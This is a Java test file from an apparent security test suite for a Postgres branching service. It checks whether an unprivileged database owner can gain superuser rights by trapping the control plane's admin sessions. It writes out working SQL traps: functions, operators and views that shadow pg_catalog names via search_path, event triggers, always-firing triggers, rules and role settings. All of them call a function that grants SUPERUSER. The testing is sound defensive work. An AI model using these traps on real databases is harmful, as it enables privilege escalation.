package dev.coppice.server;

import static dev.coppice.server.Attack.Mechanism.ADMIN_SESSION;
import static org.assertj.core.api.Assertions.assertThat;

import dev.coppice.server.Attack.Party;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;

/**
 * A role without any power, who owns a database, lays traps for the control plane's own sessions, which are a superuser's: names that come before
 * Postgres's, settings, triggers. Then somebody administrates the branch.
 */
final class AdministrationAttacks {
    private static final String OTHERS = "coppice_owner";

    private AdministrationAttacks() {}

    static List<Attack> all() {
        return List.of(
                attack("functions, operators and views under the names of Postgres's own, first in the path", names()),
                attack(
                        "settings of his role and database",
                        List.of(
                                "ALTER DATABASE escdb SET default_transaction_read_only = on",
                                "ALTER DATABASE escdb SET statement_timeout = 1",
                                "ALTER DATABASE escdb SET role = 'esc'",
                                "ALTER ROLE esc SET search_path = evil",
                                "ALTER DATABASE escdb SET session_authorization = 'esc'")),
                attack("triggers that always fire, rules, defaults and constraints of his tables", triggers()),
                attack(
                        "event triggers",
                        List.of(
                                "CREATE FUNCTION evil.event() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM"
                                        + " evil.run('event'); END $$",
                                "CREATE EVENT TRIGGER evil_ddl ON ddl_command_start EXECUTE FUNCTION evil.event()",
                                "CREATE EVENT TRIGGER evil_login ON login EXECUTE FUNCTION evil.event()")));
    }

    private static List<String> names() {
        List<String> all = new ArrayList<>(List.of(
                function("current_database()", "name", "'escdb'::name"),
                function("version()", "text", "'PostgreSQL 18'"),
                function("quote_ident(text)", "text", "$1"),
                function("quote_literal(text)", "text", "$1"),
                function("format(text, text)", "text", "$1"),
                function("lower(text)", "text", "$1"),
                function("format_type(oid, int)", "text", "'evil'"),
                function("pg_is_in_recovery()", "bool", "false"),
                function("eq(name, text)", "bool", "true"),
                function("eq(name, name)", "bool", "true"),
                function("eq(oid, oid)", "bool", "true"),
                function("eq(text, text)", "bool", "true")));
        for (String type : List.of("name", "oid", "text")) {
            all.add("CREATE OPERATOR evil.= (LEFTARG = " + type + ", RIGHTARG = " + type + ", FUNCTION = evil.eq)");
        }
        all.add("CREATE OPERATOR evil.= (LEFTARG = name, RIGHTARG = text, FUNCTION = evil.eq)");
        for (String view : List.of("pg_database", "pg_roles", "pg_class", "pg_attribute", "pg_namespace")) {
            all.add("CREATE VIEW evil." + view + " AS SELECT *, evil.run('" + view + "') FROM pg_catalog." + view);
        }
        all.add("CREATE TYPE evil.text AS (t int)");
        all.add("ALTER DATABASE escdb SET search_path = evil, pg_catalog");
        return all;
    }

    private static List<String> triggers() {
        return List.of(
                "CREATE FUNCTION evil.fired() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.run('trigger');"
                        + " RETURN NULL; END $$",
                function("checked(int)", "bool", "true"),
                "CREATE TABLE t (id int DEFAULT length(evil.run('default')), CHECK (evil.checked(id)))",
                "CREATE INDEX ON t (abs(id)) WHERE id > 0",
                "CREATE TRIGGER always BEFORE TRUNCATE ON t FOR EACH STATEMENT EXECUTE FUNCTION evil.fired()",
                "ALTER TABLE t ENABLE ALWAYS TRIGGER always",
                "CREATE RULE again AS ON DELETE TO t DO ALSO SELECT evil.run('rule')",
                "CREATE MATERIALIZED VIEW m AS SELECT evil.run('view') AS said");
    }

    private static String function(String signature, String returns, String result) {
        return "CREATE FUNCTION evil." + signature + " RETURNS " + returns
                + " LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.run('function'); RETURN " + result + "; END $$";
    }

    private static Attack attack(String means, List<String> traps) {
        return new Attack(
                Party.OWNER,
                "become superuser, or stop the control plane, by what its sessions meet",
                means + "; then roles, databases, a schema-only and an anonymized branch",
                Set.of(ADMIN_SESSION),
                (cage, _) -> administrated(cage, traps));
    }

    private static Optional<String> administrated(Cage cage, List<String> traps)
            throws SQLException, java.io.IOException {
        String name = cage.newName();
        try (Foothold owner = cage.branch(name)) {
            String password = cage.role("esc", name);
            cage.cli("databases", "create", "--name", "escdb", "--owner-name", "esc", "--branch", name);
            assertThat(owner.sql("SELECT rolsuper FROM pg_roles WHERE rolname = 'esc'"))
                    .isEqualTo("f");
            String uri = owner.uri()
                    .replaceFirst("//[^@]*@", "//esc:" + password + "@")
                    .replaceFirst("/coppice\\?", "/escdb?");
            int laid = 0;
            try (Foothold esc = new Foothold(uri, _ -> {})) {
                assertThat(esc.sql("SELECT current_user || ' ' || current_database()"))
                        .isEqualTo("esc escdb");
                assertThat(esc.sql(
                                "CREATE SCHEMA evil",
                                "CREATE FUNCTION evil.run(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN"
                                        + " IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user)"
                                        + " THEN ALTER ROLE esc SUPERUSER; END IF; RETURN $1; END $$"))
                        .isEmpty();
                for (String trap : traps) {
                    // In a session of its own: what the one before has set counts.
                    laid += esc.sql("SET search_path = public", trap).isEmpty() ? 1 : 0;
                }
            }
            if (laid == 0) {
                // Postgres itself does not let him.
                return Optional.empty();
            }
            return tried(cage, owner, name);
        } finally {
            cage.tryCli("branches", "delete", name, "--hard");
        }
    }

    private static Optional<String> tried(Cage cage, Foothold owner, String name) throws SQLException {
        List<String[]> steps = List.of(
                new String[] {"roles", "create", "--name", "made", "--branch", name},
                new String[] {"roles", "reset-password", "made", "--branch", name},
                new String[] {"databases", "create", "--name", "db", "--owner-name", "made", "--branch", name},
                new String[] {"databases", "list", "--branch", name},
                new String[] {"branches", "create", "--name", name + "-schema", "--parent", name, "--schema-only"},
                new String[] {
                    "branches", "create", "--name", name + "-anon", "--parent", name, "--anonymized", "--set", "all"
                },
                new String[] {"databases", "delete", "db", "--branch", name},
                new String[] {"roles", "delete", "made", "--branch", name});
        List<String> found = new ArrayList<>();
        for (String[] step : steps) {
            Programs.Result result = cage.tryCli(step);
            if (result.exitCode() != 0) {
                found.add(String.join(" ", step) + ": " + result.error().strip());
            }
        }
        addIfPowerful(found, "the branch itself", owner);
        for (String made : List.of(name + "-schema", name + "-anon")) {
            try (Foothold there = cage.existing(made)) {
                addIfPowerful(found, made, there);
            }
            cage.tryCli("branches", "delete", made, "--hard");
        }
        return found.isEmpty() ? Optional.empty() : Optional.of(String.join("; ", found));
    }

    private static void addIfPowerful(List<String> found, String where, Foothold from) throws SQLException {
        if (!from.sql("SELECT rolsuper FROM pg_roles WHERE rolname = 'esc'").equals("f")) {
            found.add("superuser of " + where);
        }
        assertThat(from.sql("SELECT current_user")).isEqualTo(OTHERS);
    }
}
